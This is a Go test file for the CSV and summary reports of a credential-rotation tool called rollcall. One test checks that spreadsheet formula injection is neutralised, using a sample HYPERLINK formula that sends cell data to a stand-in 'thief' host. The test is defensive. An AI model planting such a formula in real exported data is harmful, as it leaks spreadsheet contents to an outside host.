package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"rollcall/internal/credential"
	"rollcall/internal/ledger"
	"rollcall/internal/protocol"
)

func rowsOf(t require.TestingT, s *ledger.State) []map[string]string {
	var b bytes.Buffer
	require.NoError(t, CSV(&b, s, Verification{}))
	all, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Equal(t, csvColumns, all[0])
	var out []map[string]string
	for _, row := range all[1:] {
		cells := map[string]string{}
		for i, name := range csvColumns {
			cells[name] = row[i]
		}
		out = append(out, cells)
	}
	return out
}

func TestCSVHasARowForEachOpenItemWithItsReasonAndWhatToDo(t *testing.T) {
	rows := rowsOf(t, sample(true).fold())
	require.Len(t, rows, 2)
	require.Equal(t, map[string]string{
		"campaign": sampleCampaign, "device": "esg-01", "item": "credential", "id": "corp/0004", "name": "uid=svc-far,ou=people,dc=example,dc=org",
		"kind": "ldap-password", "authority": "corp", "state": "exception", "step": "prove", "reason": "old-accepted", "meaning": "A server still accepts the stolen value",
		"detail": "this server still accepts the stolen value", "server": far, "what_to_do": adviceFor(protocol.ReasonOldAccepted).Next, "owner": "", "due": "",
		"since": "2026-11-23T12:00:09.000Z", "until": "", "paths": "kv/apps/esg-01/far#password", "ledger_index": "18", "incident": "", "severity": "", "signs_of_use": "",
	}, rows[0])
	require.Equal(t, "no-account", rows[1]["reason"])

	rows = rowsOf(t, sampleLeftOut().fold())
	require.Len(t, rows, 1, "all are dead, and a server was not asked")
	require.Equal(t, "server", rows[0]["item"])
	require.Equal(t, far, rows[0]["server"])
	require.Equal(t, "by operator@bastion: its disk burnt, a new one comes on Monday", rows[0]["detail"])

	l := &log{}
	l.start()
	l.rollClosed(0)
	require.Empty(t, rowsOf(t, l.fold()), "nothing is open: the heading alone")
}

func TestCSVNamesWhoSeesToWhatIsOpenAndUntilWhen(t *testing.T) {
	var lines, tasks int
	for _, row := range rowsOf(t, sampleProfile(true, true).fold()) {
		switch {
		case row["item"] == "profile-line" && row["state"] == "later":
			lines++
			require.NotEmpty(t, row["owner"])
			require.Regexp(t, `^\d{4}-\d\d-\d\d$`, row["due"])
		case row["item"] == "credential" && row["owner"] != "":
			tasks++
		}
	}
	require.Positive(t, lines)

	l := &log{}
	l.start()
	l.list("person/radius", "radius secret", credential.PersonAuthority, 0, credential.SecretByHand)
	l.rollClosed(1)
	due := at(24 * time.Hour)
	l.add(ledger.Entry{At: at(time.Minute), Event: ledger.TaskOpened, Credential: "person/radius", Task: &ledger.TaskOpening{
		Do: []string{"Set it on both.", "Say so."}, Due: due, At: at(time.Minute),
		Ends: []ledger.TaskSeat{{End: "NPS server", Owner: "userpass/bob", Entity: "e1"}, {End: "web", Owner: "userpass/carol", Entity: "e2"}},
	}}, "")
	l.open("person/radius", ledger.EventOpen, protocol.Precheck, protocol.ReasonByHand, "", "")
	rows := rowsOf(t, l.fold())
	require.Len(t, rows, 1)
	require.Equal(t, "userpass/bob, userpass/carol", rows[0]["owner"])
	require.Equal(t, "2026-11-24T12:00:00.000Z", rows[0]["due"])
	require.Equal(t, "Set it on both. Say so.", rows[0]["what_to_do"])
}

// A ticket system that is fed from a campaign that waits has all of what the
// report calls open.
func TestCSVAndSummaryHaveWhatWasNotBroughtToAnEndAndSayWhatBecomesOfIt(t *testing.T) {
	l := &log{}
	l.start()
	for _, id := range []string{"corp/a", "corp/b"} {
		l.list(id, "uid="+id, "corp", 0, "ldap-password")
	}
	l.rollClosed(2)
	summary := func() string {
		var b bytes.Buffer
		require.NoError(t, SummaryText(&b, l.fold(), verified, at(time.Hour), 200))
		return b.String()
	}
	require.Contains(t, summary(), "  2  Not brought to an end yet. The campaign goes on.\n")
	l.add(ledger.Entry{At: at(time.Minute), Event: ledger.CampaignPaused, Actor: "jo@bastion"}, "")
	const paused = "Paused by jo@bastion at 2026-11-23 12:01:00Z: `rollcall resume` goes on with it."
	require.Contains(t, summary(), "  2  Not brought to an end yet. "+paused+"\n")
	rows := rowsOf(t, l.fold())
	require.Len(t, rows, 2)
	require.Equal(t, []string{"waiting", "Not brought to an end yet", paused}, []string{rows[0]["state"], rows[0]["meaning"], rows[0]["what_to_do"]})

	l.open("corp/a", ledger.EventOpen, protocol.Precheck, protocol.ReasonLocked, near, "")
	l.add(ledger.Entry{At: at(2 * time.Minute), Event: ledger.OpenAccepted, Actor: "jo@bastion", Owner: "directory team", Detail: "tonight", Due: at(72 * time.Hour)}, "")
	require.Contains(t, summary(), "Owner: directory team, due 2026-11-26 12:00:00Z.\n")
	require.Contains(t, summary(), "Not brought to an end yet. The campaign is being ended: what is not in hand stays open.\n")
	var page bytes.Buffer
	require.NoError(t, SummaryHTML(&page, l.fold(), verified, at(time.Hour)))
	require.Contains(t, page.String(), "directory team, due 2026-11-26 12:00:00Z")
}

// formula reports whether a spreadsheet may take a cell for one, in each of the
// ways in which lists are separated.
func formula(cell string) bool {
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '|' || r == '\t' || r == '\n' || r == '\r' }) {
		part = strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || r == '"' })
		if part != "" && strings.ContainsAny(part[:len(string([]rune(part)[0]))], "=+-@＝＋－＠") {
			return true
		}
	}
	return false
}

// Names come from directories that an intruder may write.
func TestNoCellOfTheCSVCanBecomeAFormulaAndNoneBreaksItsRow(t *testing.T) {
	require.Equal(t, `'=HYPERLINK("http://thief/?"&A1)`, plainCell(`=HYPERLINK("http://thief/?"&A1)`))
	require.Equal(t, `x;'=1+1`, plainCell(`x;=1+1`))
	require.Equal(t, "uid=svc-1,ou=a-b+c", plainCell("uid=svc-1,ou=a-b+c"), "a name stays as it is")
	nasty := rapid.StringOf(rapid.SampledFrom([]rune("=+-@＝＠;|,\"' \t\r\nax1\u00a0\u202e\x00é")))
	rapid.Check(t, func(t *rapid.T) {
		l := &log{}
		l.start()
		name, detail, server := nasty.Draw(t, "name"), nasty.Draw(t, "detail"), nasty.Draw(t, "server")
		l.list("corp/1", name, "corp", 0, credential.LDAPPassword)
		l.open("corp/1", ledger.EventOpen, protocol.Prove, protocol.ReasonLagging, server, detail)
		var b bytes.Buffer
		require.NoError(t, CSV(&b, l.fold(), Verification{}))
		require.Equal(t, 2, strings.Count(b.String(), "\r\n"))
		require.Equal(t, 2, strings.Count(b.String(), "\n"), "no cell has a line end")
		rows := rowsOf(t, l.fold())
		require.Len(t, rows, 1)
		for column, cell := range rows[0] {
			require.False(t, formula(cell), "%s: %q", column, cell)
		}
		if name != "" {
			require.Equal(t, strings.ReplaceAll(Clean(name), "'", ""), strings.ReplaceAll(rows[0]["name"], "'", ""), "nothing is lost")
		}
	})
}

// A ticket system that is handed the rows alone is told what they are worth.
func TestOfALedgerThatDoesNotVerifyTheFirstRowSaysSo(t *testing.T) {
	s := sample(true).fold()
	good := rowsOf(t, s)
	var b strings.Builder
	require.NoError(t, CSV(&b, s, Verification{Problems: []string{"entry 34: its hash is another one", "more"}}))
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+1+len(good))
	first := map[string]string{}
	for i, name := range rows[0] {
		first[name] = rows[1][i]
	}
	require.Equal(t, "ledger", first["item"])
	require.Equal(t, "not-verified", first["state"])
	require.Contains(t, first["detail"], "2 problems, the first: entry 34: its hash is another one")
	require.Equal(t, []string{"x"}, StatusOf(s, Verification{Problems: []string{"x"}}).Ledger.Problems)
}
